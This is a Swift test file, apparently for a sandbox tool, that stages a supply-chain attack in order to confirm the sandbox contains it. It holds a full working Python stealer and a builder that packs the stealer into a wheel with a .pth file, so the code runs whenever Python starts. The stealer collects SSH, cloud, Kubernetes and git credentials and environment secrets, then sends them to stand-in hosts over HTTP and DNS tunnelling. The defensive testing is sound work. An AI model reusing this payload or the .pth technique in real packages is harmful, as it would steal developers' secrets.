import Foundation
import SystemPackage
import Testing

/// The attack of March 2026 whole: a wheel from an index that everybody trusts, whose `.pth` runs at
/// every start of Python, collects what a developer's machine holds, and posts it.
@Suite(.serialized, .timeLimit(.minutes(5))) struct WheelAttackTests {
  /// What the wheel carries. It tries the name of its author's server, then its address, then names
  /// and services that are often let through, and notes for the test what it had in hand.
  private static let payload = #"""
    import base64, glob, json, os, socket, ssl, urllib.request
    if not os.environ.get("COLLECTED"):
        os.environ["COLLECTED"] = "1"
        loot = {name: value for name, value in os.environ.items()
                if any(word in name for word in ("KEY", "TOKEN", "SECRET", "PASS"))}
        home = os.path.expanduser("~")
        for place in (".ssh/*", ".aws/*", ".config/gcloud/*", ".kube/config", ".netrc", ".git-credentials",
                      ".docker/config.json", ".npmrc", ".pypirc", ".bash_history", ".env"):
            for path in glob.glob(os.path.join(home, place)) + glob.glob(os.path.join(os.getcwd(), place)):
                try:
                    loot[path] = open(path).read()
                except OSError:
                    pass
        for path in glob.glob("/proc/*/environ"):
            try:
                loot[path] = open(path, "rb").read().decode("latin-1")
            except OSError:
                pass
        text = json.dumps(loot)
        port, index = os.environ["COLLECTOR_PORT"], os.environ["TLS_PORT"]
        tried = []
        def post(url):
            try:
                request = urllib.request.Request(url, data=text.encode(), method="POST")
                tried.append(urllib.request.urlopen(request, timeout=3).status)
            except Exception as error:
                tried.append(getattr(error, "code", type(error).__name__))
        post(f"http://collector.example.net:{port}/")
        post("http://collector.example.net/")
        post(f"http://127.0.0.1:{port}/")
        post("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
        post(f"https://pypi.example.com:{index}/upload")
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
                for start in range(0, len(text), 60):
                    label = base64.b32encode(text[start:start + 30].encode()).decode().strip("=")
                    datagrams.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label.encode()
                                     + b"\7example\3net\0\0\20\0\1", ("198.18.0.1", 53))
        except OSError:
            pass
        with open("payload.ran", "a") as file:
            file.write(" ".join(str(x) for x in tried) + "\n")
    """#

  /// Builds the wheel and the index that serves it, below what the server of the world serves.
  private static func publish(_ world: HostileWorld) async throws {
    let program = #"""
      import base64, hashlib, os, sys, zipfile
      os.makedirs("served/simple/lightllm")
      os.makedirs("served/files")
      name = "lightllm-1.82.8-py3-none-any.whl"
      files = {
          "lightllm/__init__.py": "def complete(): return 'hello'\n",
          "lightllm_payload.py": sys.stdin.read(),
          "lightllm_init.pth": "import lightllm_payload\n",
          "lightllm-1.82.8.dist-info/METADATA": "Metadata-Version: 2.1\nName: lightllm\nVersion: 1.82.8\n",
          "lightllm-1.82.8.dist-info/WHEEL":
              "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
      }
      record = "".join("%s,sha256=%s,%d\n" % (
          path, base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("="),
          len(text)) for path, text in files.items())
      files["lightllm-1.82.8.dist-info/RECORD"] = record + "lightllm-1.82.8.dist-info/RECORD,,\n"
      with zipfile.ZipFile("served/files/" + name, "w") as wheel:
          for path, text in files.items():
              wheel.writestr(path, text)
      digest = hashlib.sha256(open("served/files/" + name, "rb").read()).hexdigest()
      with open("served/simple/lightllm/index.html", "w") as page:
          page.write(f"<!DOCTYPE html><html><body><a href='/files/{name}#sha256={digest}'>{name}</a></body></html>")
      """#
    var command = Command.named("python3", "-c", program, directory: world.directory)
    command.input = payload
    let made = try await command.run()
    try #require(made.status == .exited(0), "\(made.error)")
    for (name, text) in [
      (".aws/credentials", "[default]\naws_secret_access_key = \(HostileWorld.canary)\n"),
      (".ssh/id_ed25519", HostileWorld.canary), (".netrc", HostileWorld.canary),
      (".git-credentials", HostileWorld.canary), (".bash_history", HostileWorld.canary),
      (".kube/config", HostileWorld.canary),
    ] {
      let file = world.callerHome.appending(name)
      try FileManager.default.createDirectory(
        atPath: file.removingLastComponent().string,
        withIntermediateDirectories: true
      )
      try Data(text.utf8).write(to: URL(filePath: file.string))
    }
  }

  /// Installs the package, as a developer does, and starts Python afterwards.
  private static let victim =
    AttackText.opening + #"""
      host = "127.0.0.1" if UNSEALED else "pypi.example.com"
      pip = [sys.executable, "-m", "pip", "install", "--user", "--quiet", "--no-cache-dir",
             "--disable-pip-version-check", "--index-url", f"https://{host}:{TLS}/simple/", "lightllm"]
      if UNSEALED:
          pip += ["--trusted-host", f"{host}:{TLS}"]
      environment = dict(os.environ, PIP_BREAK_SYSTEM_PACKAGES="1")
      installed = subprocess.run(pip, env=environment, capture_output=True, text=True)
      print("pip", installed.returncode, installed.stderr[-400:] if installed.returncode else "")
      started = subprocess.run([sys.executable, "-c", "import lightllm; print(lightllm.complete())"],
                               env=environment, capture_output=True, text=True)
      print("python", started.returncode, started.stdout.strip(), started.stderr[-400:])
      """#

  @Test func `a wheel that steals finds nothing to collect and nowhere to post`() async throws {
    try await HostileWorld.with { world in
      try await Self.publish(world)
      let free = try await world.unsealed(Self.victim)
      #expect(free.output == "pip 0 \npython 0 hello \n", "\(free.output)\(free.error)")
      let stolen = try world.received("collector")
      #expect(stolen.range(of: Data(HostileWorld.canary.utf8)) != nil)
      let log = world.workspace.appending("payload.ran").string
      #expect(FileManager.default.fileExists(atPath: log))
      try FileManager.default.removeItem(atPath: log)
      try world.forget()

      try await world.store("PYPI_TOKEN", "--host", "pypi.example.com")
      let result = try await world.sealed(
        world.entry(
          "pypi.example.com",
          "credential: PYPI_TOKEN, rules: [{ allow: \"GET /simple/**\" }, { allow: \"GET /files/**\" }]"
        ),
        Self.victim
      )
      #expect(result.output == "pip 0 \npython 0 hello \n", "\(result.output)\(result.error)")
      // The package was installed, and its payload ran.
      let runs = try FileManager.default.contentsOfDirectory(
        atPath: world.home.appending("runs").string
      )
      let ran = runs.contains { run in
        let upper = world.home.appending("runs").appending(run).appending("upper")
        return FileManager.default.fileExists(atPath: upper.appending("payload.ran").string)
      }
      #expect(ran)
      // It got nothing, and nowhere.
      #expect(try world.received("collector").isEmpty)
      #expect(try world.received("tls").range(of: Data("POST ".utf8)) == nil)
      #expect(!HostileWorld.holdsCanary(try world.received("tls")))
      #expect(try world.filesWithCanary() == [])
      let audit = try await world.audit()
      #expect(!HostileWorld.holdsCanary(Data(audit.utf8)))
      for what in ["collector.example.net", "169.254.169.254", "\"path\":\"/upload\""] {
        let rows = audit.split(separator: "\n").filter {
          $0.contains(what) && $0.contains("\"verdict\":\"denied\"")
        }
        #expect(!rows.isEmpty, "\(what)")
      }
      let diff = try await Command.caisson("diff", "last", home: world.home).run()
      #expect(!HostileWorld.holdsCanary(Data(diff.output.utf8)))
    }
  }
}
